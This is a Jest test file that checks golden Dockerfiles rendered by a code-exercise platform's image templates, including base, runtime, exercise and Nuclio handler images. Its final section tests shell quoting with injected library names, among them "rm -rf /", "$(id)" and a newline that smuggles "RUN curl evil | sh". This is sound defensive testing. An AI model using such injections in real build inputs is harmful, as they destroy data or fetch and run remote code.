/**
 * Golden files of the rendered Dockerfiles: a template change shows up as a reviewable diff.
 * Regenerate after an intended change with `UPDATE_GOLDEN=1 npx jest tests/unit/templates`.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { LibrarySpec } from '../../../factory/catalogue';
import { parseLibrarySpecs } from '../../../factory/libraries';
import {
  renderBase,
  renderExercise,
  renderNuclio,
  renderNuclioShell,
  renderRuntime,
  renderUpstreamRuntime,
  type RenderedImage,
} from '../../../factory/templates';
import { C, GO, NODE, PHP, PROXY_SOURCES, PYTHON, RUBY, resolved } from './runtime-fixtures';

const GOLDEN = path.join(__dirname, 'golden');
const UPDATE = process.env.UPDATE_GOLDEN === '1';

function expectGolden(name: string, text: string): void {
  const file = path.join(GOLDEN, name);
  if (UPDATE) {
    fs.writeFileSync(file, text);
    return;
  }
  if (!fs.existsSync(file)) throw new Error(`no golden file ${name}: run UPDATE_GOLDEN=1 npx jest tests/unit/templates`);
  expect(text).toBe(fs.readFileSync(file, 'utf8'));
}

const node = resolved(NODE);
const python = resolved(PYTHON, '3.11.2');

describe('golden Dockerfiles', () => {
  test('base image (bookworm)', () => {
    const base = renderBase({ suite: 'bookworm', proxySources: PROXY_SOURCES });
    expectGolden('base-bookworm.Dockerfile', base.dockerfile);
    expect(base.parent).toBe('codering/debian:bookworm');
    // every source and header of the proxy is a context file, so the tag hashes each of them
    expect(base.files).toEqual(PROXY_SOURCES.map((file) => ({ name: `proxy/${file.name}`, content: file.content })));
  });

  test.each([
    ['runtime-python-3.11.2.Dockerfile', python],
    ['runtime-python-3.9.2.Dockerfile', resolved(PYTHON, '3.9.2')],
    ['runtime-node-18.20.4.Dockerfile', node],
    ['runtime-go-1.19.8.Dockerfile', resolved(GO)],
  ])('runtime image %s', (name, runtime) => {
    const image = renderRuntime({ runtime, baseImage: `codering/base:${runtime.entry.suite}-0123456789ab` });
    expectGolden(name, image.dockerfile);
    expect(image.files).toEqual([{ name: 'runtime.sh', content: runtime.definition.runtimeScript, mode: 0o755 }]);
  });

  test('runtime FROM the upstream image', () => {
    const image = renderUpstreamRuntime({ runtime: python, proxySources: PROXY_SOURCES });
    expectGolden('runtime-python-3.11.2-upstream.Dockerfile', image.dockerfile);
    expect(image.parent).toBe('python:3.11-slim-bookworm');
    expect(image.files.map((f) => f.name)).toEqual(['proxy/main.c', 'proxy/stand-in.h', 'runtime.sh']);
  });

  const exercises: Array<[string, ReturnType<typeof resolved>, string[]]> = [
    ['exercise-node-npm.Dockerfile', node, ['lodash@4', 'apt:jq', '@types/node@20']],
    ['exercise-python-pip.Dockerfile', python, ['requests==2.31.0', 'uvicorn[standard]>=0.20']],
    ['exercise-c-apt.Dockerfile', resolved(C), ['apt:libgmp-dev', 'apt:zlib1g-dev=1:1.2.13.dfsg-1']],
    ['exercise-ruby-gem.Dockerfile', resolved(RUBY), ['rake@13.0.6', 'nokogiri@>=1.15,<2']],
    ['exercise-php-composer.Dockerfile', resolved(PHP), ['monolog/monolog@^3.0']],
  ];
  test.each(exercises)('exercise image %s', (name, runtime, specs) => {
    const libraries = parseLibrarySpecs(runtime.definition, specs);
    const image = renderExercise({ runtime, runtimeImage: `codering/${runtime.language}:${runtime.version}-0123456789ab`, libraries });
    expectGolden(name, image.dockerfile);
    expect(image.parent).toBe(`codering/${runtime.language}:${runtime.version}-0123456789ab`);
  });

  test('nuclio target of an exercise image, with its handler', () => {
    const exercise = renderExercise({
      runtime: node,
      runtimeImage: 'codering/node:18.20.4-0123456789ab',
      libraries: parseLibrarySpecs(node.definition, ['lodash@4']),
    });
    const image = renderNuclio({ image: { ...exercise, reference: '127.0.0.1:5000/codering/node-exercise:18.20.4-ba9876543210' } });
    expectGolden('nuclio-node-exercise.Dockerfile', image.dockerfile);
    const handler = image.files.find((f) => f.name === 'handler.sh');
    expect(handler?.mode).toBe(0o755);
    expectGolden('nuclio-node-exercise.handler.sh', String(handler?.content));
  });
});

describe('what every image is made of', () => {
  test('the base image has the contract of proxy/README.md', () => {
    const { dockerfile } = renderBase({ suite: 'trixie', proxySources: PROXY_SOURCES });
    expect(dockerfile).toContain('FROM codering/debian:trixie AS proxy-build');
    expect(dockerfile).toContain('COPY proxy/ /src/proxy/');
    expect(dockerfile).toContain('gcc -O2 -Wall -o /out/codering-proxy /src/proxy/*.c');
    expect(dockerfile).toContain('COPY --from=proxy-build /out/codering-proxy /opt/codering/bin/codering-proxy');
    expect(dockerfile).toContain('useradd --uid 1000 --gid 1000 --home-dir /box');
    expect(dockerfile).toContain('ONBUILD COPY runtime.sh /opt/codering/runtime.sh');
    expect(dockerfile).toContain('ENTRYPOINT ["/usr/bin/tini","-s","--","/opt/codering/bin/codering-proxy"]');
    expect(dockerfile).toContain('CMD ["--serve"]');
    expect(dockerfile).toMatch(/ENV .*LANG=C\.UTF-8/);
    expect(dockerfile).toContain('WORKDIR /box');
    // Every apt-get install cleans its lists in the same layer.
    for (const line of dockerfile.split('\n').filter((l) => l.includes('apt-get install'))) {
      expect(line).toContain('--no-install-recommends');
    }
    expect(dockerfile.match(/rm -rf \/var\/lib\/apt\/lists/g)).toHaveLength(2);
  });

  test('the nuclio handler is POSIX sh that gives the proxy the image\'s environment, its libraries\' variables included', () => {
    const exercise = renderExercise({ runtime: python, runtimeImage: 'codering/python:x', libraries: parseLibrarySpecs(python.definition, ['requests']) });
    const image = renderNuclio({ image: { ...exercise, reference: 'r/codering/python-exercise:x' }, processorVersion: '1.14.9' });
    const handler = String(image.files[0]?.content);
    // Nuclio's own variables stay with the handler: the proxy starts with the image's alone
    expect(handler).toMatch(/^exec \/usr\/bin\/env -i \\\n {2}PATH=\S+ \\\n {2}LANG=C\.UTF-8 \\\n(?: {2}\S+=\S+ \\\n)* {2}\/opt\/codering\/bin\/codering-proxy --once\n$/m);
    expect(handler).toContain('  PYTHONPATH=/opt/codering/lib/python \\\n');
    const code = handler.split('\n').filter((line) => !line.trimStart().startsWith('#')).join('\n');
    expect(code).not.toMatch(/\[\[|function |local /); // no bashisms
    expect(image.dockerfile).toContain('FROM quay.io/nuclio/processor:1.14.9-amd64 AS processor');
    expect(image.dockerfile).toContain('COPY --from=processor /home/nuclio/bin/processor /usr/local/bin/processor');
    expect(image.dockerfile).toMatch(/CMD \["processor"\]\n$/);
    expect(image.dockerfile).toMatch(/^HEALTHCHECK /m);
  });

  test('the nuclio handler keeps every diagnostic out of the answer: stderr goes to the container\'s log first', () => {
    const image = renderNuclio({ image: { ...renderRuntime({ runtime: python, baseImage: 'b' }), reference: 'r/codering/python:x' } });
    const lines = String(image.files[0]?.content).split('\n').filter((line) => line !== '' && !line.startsWith('#'));
    expect(lines.slice(0, 2)).toEqual(['exec 2>/dev/null', 'command exec 2>/proc/1/fd/2']);
  });

  test('the nuclio target\'s shell-runtime stage is the same Dockerfile and handler, built up to the processor', () => {
    const runtime = { ...renderRuntime({ runtime: python, baseImage: 'b' }), reference: 'r/codering/python:3.11.2-x' };
    const full = renderNuclio({ image: runtime });
    const shell = renderNuclioShell({ image: runtime });
    expect(shell).toEqual({ ...full, repository: 'codering/python-nuclio-shell', target: 'shell-runtime' });
    expect(full.target).toBeUndefined();
    const stages = full.dockerfile.split(/^FROM /m).slice(1);
    expect(stages[0]).toMatch(/^r\/codering\/python:3\.11\.2-x AS shell-runtime\n/);
    expect(stages[0]).toContain('COPY handler.sh /opt/nuclio/handler.sh');
    expect(stages[0]).not.toContain('quay.io');
    expect(stages[stages.length - 1]).toMatch(/^shell-runtime\n/);
  });

  test('the env a Nuclio handler sets is every ENV the image chain declares beyond PATH and LANG', () => {
    const declared = (dockerfile: string) =>
      [...dockerfile.matchAll(/^ENV (.*)$/gm)].flatMap((m) => (m[1] ?? '').split(' ').map((pair) => pair.split('=')[0]));
    const go = resolved(GO);
    const runtime = renderRuntime({ runtime: go, baseImage: 'b' });
    expect(runtime.env.map((e) => e.name)).toEqual(declared(runtime.dockerfile));
    expect(runtime.env).toContainEqual({ name: 'CODERING_COMPILED', value: '1' });
    const prewarmed = { ...python, definition: { ...python.definition, prewarm: true } };
    const exercise = renderExercise({ runtime: prewarmed, runtimeImage: 'r', libraries: parseLibrarySpecs(python.definition, ['requests']) });
    const finalStage = exercise.dockerfile.split(/^FROM /m).pop() as string;
    const inherited = renderRuntime({ runtime: prewarmed, baseImage: 'b' }).env.map((e) => e.name);
    expect(exercise.env.map((e) => e.name)).toEqual([...inherited, ...declared(finalStage)]);
    const handler = String(renderNuclio({ image: { ...exercise, reference: 'x' } }).files[0]?.content);
    for (const name of ['CODERING_PREWARM', 'PYTHONPATH']) expect(handler).toMatch(new RegExp(`^ {2}${name}=\\S+ \\\\$`, 'm'));
  });

  test('an exercise installs the ecosystem in a builder stage and copies only the result', () => {
    const { dockerfile, env } = renderExercise({
      runtime: node,
      runtimeImage: 'codering/node:18.20.4-0123456789ab',
      libraries: parseLibrarySpecs(node.definition, ['lodash@4']),
    });
    const stages = dockerfile.split(/^FROM /m).slice(1);
    expect(stages).toHaveLength(2);
    expect(stages[0]).toMatch(/^codering\/node:18\.20\.4-0123456789ab AS libs/);
    expect(stages[0]).toContain('npm install --prefix /opt/codering/lib/node');
    expect(stages[0]).toContain('npm_config_audit=false npm_config_fund=false npm_config_update_notifier=false');
    // The installer's own packages come before the libraries: a new library reuses that layer.
    expect(stages[0]!.indexOf('apt-get install')).toBeLessThan(stages[0]!.indexOf('npm install'));
    expect(stages[1]).toContain('COPY --from=libs /opt/codering/lib /opt/codering/lib');
    expect(stages[1]).not.toContain('npm install');
    expect(env).toEqual([...renderRuntime({ runtime: node, baseImage: 'b' }).env, { name: 'NODE_PATH', value: '/opt/codering/lib/node/node_modules' }]);
  });

  test('apt-only libraries need no builder stage', () => {
    const c = resolved(C);
    const { dockerfile } = renderExercise({ runtime: c, runtimeImage: 'codering/c:x', libraries: parseLibrarySpecs(c.definition, ['apt:jq']) });
    expect(dockerfile.match(/^FROM /gm)).toHaveLength(1);
    expect(dockerfile).not.toContain('--from=libs');
  });
});

describe('defence in depth: what reaches a shell is quoted', () => {
  // parseLibrarySpecs refuses all of these; the renderer must still not let them through unquoted.
  const hostile = (name: string, version = ''): LibrarySpec => ({ installer: 'npm', name, version });

  test('a hostile name becomes one quoted shell word', () => {
    const { dockerfile } = renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [hostile("x'; rm -rf / #")] });
    expect(dockerfile).toContain(`--no-progress 'x'\\''; rm -rf / #'`);
  });

  test('globs, variables and command substitutions are quoted', () => {
    const { dockerfile } = renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [hostile('$(id)', '*')] });
    expect(dockerfile).toContain(`'$(id)@*'`);
    expect(dockerfile).toContain('org.codering.libraries="\\$(id)@*"');
  });

  test('a newline (a new Dockerfile instruction) is refused outright', () => {
    expect(() =>
      renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [hostile('lodash\nRUN curl evil | sh')] }),
    ).toThrow(/control characters/);
  });

  test('a library of another ecosystem is refused', () => {
    expect(() =>
      renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [{ installer: 'pip', name: 'requests', version: '' }] }),
    ).toThrow(/not a npm library/);
  });
});

export type { RenderedImage };
